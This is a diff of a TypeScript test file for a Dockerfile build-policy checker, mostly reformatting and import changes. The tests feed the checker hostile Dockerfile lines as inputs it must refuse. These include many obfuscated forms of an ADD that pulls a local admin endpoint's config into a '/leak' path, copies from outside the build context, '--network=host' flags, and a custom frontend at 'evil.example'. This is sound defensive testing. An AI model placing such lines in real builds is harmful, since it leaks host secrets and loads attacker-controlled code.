@@ -2,12 +2,15 @@
 // repository would write them: every way to spell "ADD http://127.0.0.1:2019/config/ /leak".
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { parseDockerfile, expandWord, UNKNOWN } from '../../../lib/compose/dockerfile.js';
-import { checkDockerfile, checkTriggers } from '../../../lib/compose/buildpolicy.js';
-import { parseCompose } from '../../../lib/compose/index.js';
+import { parseDockerfile, expandWord, UNKNOWN } from '#lib/compose/dockerfile.js';
+import { checkDockerfile, checkTriggers } from '#lib/compose/buildpolicy.js';
+import { parseCompose } from '#lib/compose/index.js';
 
-const lines = (text: string, args: Record<string, string> = {}) => checkDockerfile(text, args).problems.map((p) => `${p.line}: ${p.message}`);
-const refusedAt = (text: string, args: Record<string, string> = {}) => [...new Set(checkDockerfile(text, args).problems.map((p) => p.line))];
+const lines = (text: string, args: Record<string, string> = {}) =>
+  checkDockerfile(text, args).problems.map((p) => `${p.line}: ${p.message}`);
+const refusedAt = (text: string, args: Record<string, string> = {}) => [
+  ...new Set(checkDockerfile(text, args).problems.map((p) => p.line)),
+];
 
 test('parser: directives, continuations with either escape, comments and empty lines inside them, flags, JSON and shell forms', () => {
   const p = parseDockerfile(
@@ -50,13 +53,26 @@ test('parser: directives, continuations with either escape, comments and empty l
 });
 
 test('parser: heredocs are read as bodies (<<EOF, <<-EOF, quoted names, several per line), or as lines when asked', () => {
-  const text = ['FROM alpine', 'RUN <<EOF', 'ADD http://127.0.0.1/x /y', 'EOF', 'COPY <<-"ONE" <<TWO /dst/', '\tbody one', '\tONE', 'body two', 'TWO', 'CMD ["x"]'].join('\n');
+  const text = [
+    'FROM alpine',
+    'RUN <<EOF',
+    'ADD http://127.0.0.1/x /y',
+    'EOF',
+    'COPY <<-"ONE" <<TWO /dst/',
+    '\tbody one',
+    '\tONE',
+    'body two',
+    'TWO',
+    'CMD ["x"]',
+  ].join('\n');
   const p = parseDockerfile(text);
   assert.deepEqual(
     p.instructions.map((i) => i.keyword),
     ['FROM', 'RUN', 'COPY', 'CMD'],
   );
-  assert.deepEqual(p.instructions[1]!.heredocs, [{ name: 'EOF', line: 3, body: 'ADD http://127.0.0.1/x /y' }]);
+  assert.deepEqual(p.instructions[1]!.heredocs, [
+    { name: 'EOF', line: 3, body: 'ADD http://127.0.0.1/x /y' },
+  ]);
   assert.deepEqual(
     p.instructions[2]!.heredocs.map((h) => [h.name, h.body]),
     [
@@ -104,7 +120,10 @@ const REFUSED_ADD: [string, string][] = [
   ['escaped letters', 'ADD h\\ttp://127.0.0.1/x /leak'],
   ['second source', 'ADD ./local http://127.0.0.1/x /dir/'],
   ['flags first', 'ADD --chown=1:1 --chmod=644 http://127.0.0.1/x /leak'],
-  ['checksum', 'ADD --checksum=sha256:0000000000000000000000000000000000000000000000000000000000000000 http://127.0.0.1/x /leak'],
+  [
+    'checksum',
+    'ADD --checksum=sha256:0000000000000000000000000000000000000000000000000000000000000000 http://127.0.0.1/x /leak',
+  ],
   ['git ssh', 'ADD git@github.com:moby/buildkit.git /src'],
   ['git https', 'ADD https://github.com/moby/buildkit.git#v0.10.1 /src'],
   ['keep-git-dir', 'ADD --keep-git-dir=true git@host:repo /src'],
@@ -124,7 +143,10 @@ for (const [name, line] of REFUSED_ADD) {
 }
 
 test('policy: a URL split over continuation lines, hidden after a comment line, or behind an ONBUILD is found on its first line', () => {
-  assert.deepEqual(refusedAt('FROM alpine\nRUN true\nADD http://127.0.0.1\\\n# hidden\n:2019/config/ /leak\n'), [3]);
+  assert.deepEqual(
+    refusedAt('FROM alpine\nRUN true\nADD http://127.0.0.1\\\n# hidden\n:2019/config/ /leak\n'),
+    [3],
+  );
   assert.deepEqual(refusedAt('# escape=`\nFROM alpine\nADD http://127.0.0.1`\n:2019/ /leak\n'), [3]);
   assert.deepEqual(refusedAt('FROM alpine AS a\nONBUILD ADD http://127.0.0.1/x /leak\nFROM a\n'), [2]);
   assert.deepEqual(refusedAt('FROM alpine\nonbuild  add  ["https://127.0.0.1/x","/y"]\n'), [2]);
@@ -147,7 +169,10 @@ test('policy: variables in ADD sources resolve through ENV and ARG, or the line 
   assert.deepEqual(refusedAt('ARG H=127.0.0.1\nFROM alpine\nARG H\nENV U=http://$H/x\nADD $U /leak\n'), [5]);
   assert.deepEqual(refusedAt('FROM alpine\nENV S=http\nADD ${S}://127.0.0.1/ /leak\n'), [3]);
   // A stage that starts from an image: its environment (unseen) wins over an ARG, so an ARG alone fixes nothing.
-  assert.match(lines('FROM alpine\nARG SRC=./dist\nADD $SRC /app\n').join('\n'), /^3: ADD source "\$SRC" depends on \$SRC, which the build cannot fix/);
+  assert.match(
+    lines('FROM alpine\nARG SRC=./dist\nADD $SRC /app\n').join('\n'),
+    /^3: ADD source "\$SRC" depends on \$SRC, which the build cannot fix/,
+  );
   assert.deepEqual(refusedAt('FROM alpine\nADD ${UNSET}http://127.0.0.1/ /leak\n'), [2]);
   // Fixed by this Dockerfile: allowed.
   assert.deepEqual(lines('FROM scratch\nARG SRC=./dist\nADD $SRC /app\n'), []);
@@ -161,7 +186,10 @@ test('policy: sources that leave the build context are refused; absolute ones ar
   assert.deepEqual(refusedAt('FROM alpine\nCOPY ../secret /x\n'), [2]);
   assert.deepEqual(refusedAt('FROM alpine\nCOPY ./a/../../b /x\n'), [2]);
   assert.deepEqual(refusedAt('FROM alpine\nADD ["sub/../../etc", "/x"]\n'), [2]);
-  assert.deepEqual(lines('FROM alpine\nCOPY /etc/passwd /x\nADD /app.tar.gz /\nCOPY --from=build /src/../out /y\n'), []);
+  assert.deepEqual(
+    lines('FROM alpine\nCOPY /etc/passwd /x\nADD /app.tar.gz /\nCOPY --from=build /src/../out /y\n'),
+    [],
+  );
 });
 
 test('policy: RUN flags that reach the host are refused; cache, tmpfs and stage mounts are fine', () => {
@@ -196,8 +224,16 @@ test('policy: RUN flags that reach the host are refused; cache, tmpfs and stage 
 });
 
 test('policy: the syntax directive may name the official frontend only; unknown instructions and flags are refused', () => {
-  for (const ok of ['docker/dockerfile:1', 'docker/dockerfile:1.7-labs', 'docker.io/docker/dockerfile:1@sha256:' + 'a'.repeat(64)]) assert.deepEqual(lines(`# syntax=${ok}\nFROM alpine\n`), [], ok);
-  assert.match(lines('# syntax=evil.example/frontend:latest\nFROM alpine\n')[0]!, /^1: the syntax directive "evil\.example\/frontend:latest" names a custom frontend/);
+  for (const ok of [
+    'docker/dockerfile:1',
+    'docker/dockerfile:1.7-labs',
+    'docker.io/docker/dockerfile:1@sha256:' + 'a'.repeat(64),
+  ])
+    assert.deepEqual(lines(`# syntax=${ok}\nFROM alpine\n`), [], ok);
+  assert.match(
+    lines('# syntax=evil.example/frontend:latest\nFROM alpine\n')[0]!,
+    /^1: the syntax directive "evil\.example\/frontend:latest" names a custom frontend/,
+  );
   assert.match(lines('FROM alpine\nFETCH http://x /y\n')[0]!, /^2: unknown instruction FETCH/);
   assert.match(lines('FROM --network=host alpine\n')[0]!, /^1: unknown flag --network for FROM/);
 });
@@ -252,7 +288,10 @@ test("checkTriggers: a base image's ONBUILD triggers pass the same policy", () =
   assert.deepEqual(checkTriggers(['RUN make', 'COPY . /src']), []);
   const out = checkTriggers(['ADD http://127.0.0.1:2019/config/ /leak', 'RUN --network=host true']);
   assert.equal(out.length, 2);
-  assert.match(out[0]!, /^ONBUILD ADD http:\/\/127\.0\.0\.1:2019\/config\/ \/leak: ADD from a URL is not allowed/);
+  assert.match(
+    out[0]!,
+    /^ONBUILD ADD http:\/\/127\.0\.0\.1:2019\/config\/ \/leak: ADD from a URL is not allowed/,
+  );
   assert.match(out[1]!, /--network=host is not allowed/);
 });
 
